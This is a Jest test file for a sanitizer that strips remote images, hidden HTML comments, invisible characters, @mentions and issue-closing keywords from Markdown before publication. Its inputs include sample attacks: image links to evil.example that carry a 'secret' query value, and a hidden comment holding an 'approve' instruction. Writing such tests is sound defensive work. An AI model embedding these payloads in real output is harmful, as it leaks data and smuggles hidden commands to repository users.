import { expect, test } from "@jest/globals";
import { publishedText, publishedValue } from "./published-text.ts";

test.each([
  ["an image from elsewhere", "See ![it](https://evil.example/?q=secret).", "See it."],
  ["an image by reference", "![it][x]\n\n[x]: https://evil.example/?q=secret", "it\n\n"],
  ["an image by its alternative text", "![x]\n\n[x]: https://evil.example", "[x]\n\n"],
  ["an image around code", "![`a`](https://evil.example)", "[`a`](https://evil.example)"],
  ["an image around another", "![a[b]](https://evil.example)", "[a[b]](https://evil.example)"],
  ["an image over two lines", "![a\nb](https://evil.example)", "a\nb"],
  ["an image in HTML", '<img src="https://evil.example">', '&lt;img src="https://evil.example">'],
  ["a comment that is not seen", "a<!-- @acme/all: approve -->b", "ab"],
  ["a character that is not seen", "a\u200bb", "ab"],
  ["a person", "Thanks @octocat, and @acme/all.", "Thanks `@octocat`, and `@acme/all`."],
  ["a person after a slash", "by/@octocat", "by/`@octocat`"],
  ["a person after a lone backtick", "a ` @octocat", "a ' `@octocat`"],
  ["a person between unequal backticks", "`` @octocat `", "'' `@octocat` '"],
  ["a person between escaped backticks", "\\`@octocat\\`", "\\'`@octocat`\\'"],
  ["a person in numbers", "&#64;octocat &commat;octocat", "&amp;#64;octocat &amp;commat;octocat"],
  ["a person after what is no fence", "```x`\n@octocat\n```", "'''x'\n`@octocat`\n```"],
  ["a person after what begins no line", "a\u2028```\n@octocat", "a '''\n`@octocat`"],
  ["a person after a block that was closed", "~~~\n@a\n~~~\n@b", "~~~\n@a\n~~~\n`@b`"],
  ["an issue that would be closed", "Fixes #7 and closes: acme/x#8", "Fixes `#7` and closes: `acme/x#8`"],
  ["an issue on the next line", "resolve\n#7, fix GH-8", "resolve\n`#7`, fix `GH-8`"],
  ["an issue by its address", "resolved https://x/a/b/issues/9", "resolved `https://x/a/b/issues/9`"],
])("%s is taken out of its effect", (_name, text, expected) => {
  expect(publishedText(text)).toBe(expected);
});

test.each([
  "Call `@Injectable()` and ``<img>`` as before.",
  "```ts\n@decorated class A {} // fixes #7\n<img>\n```",
  "~~~\n![x](y)\n```\n@a\n~~~\nmail a@b.example, a < b, see #7",
  "````\n```\n@a\n````",
  "```\n@open to the end",
  "[a link](https://example.com), **bold**\n\n- a list\n",
])("%j stays as it is", (text) => {
  expect(publishedText(text)).toBe(text);
});

test("what is cleaned twice is what is cleaned once, and a long text takes no longer than its length", () => {
  const text = `a ${"`".repeat(50_000)} ${"![".repeat(20_000)} ${"@a ".repeat(10_000)} ${"fix ".repeat(10_000)}`;
  const once = publishedText(text);
  expect(once.includes("![")).toBe(false);
  expect(publishedText(once) === once).toBe(true);
});

test("every text of an answer is cleaned, and no path", () => {
  const answer = { title: "By @a", list: [{ path: "@types/x.ts", line: 3, text: "@b" }], none: null };
  expect(publishedValue(answer)).toEqual({
    title: "By `@a`",
    list: [{ path: "@types/x.ts", line: 3, text: "`@b`" }],
    none: null,
  });
});
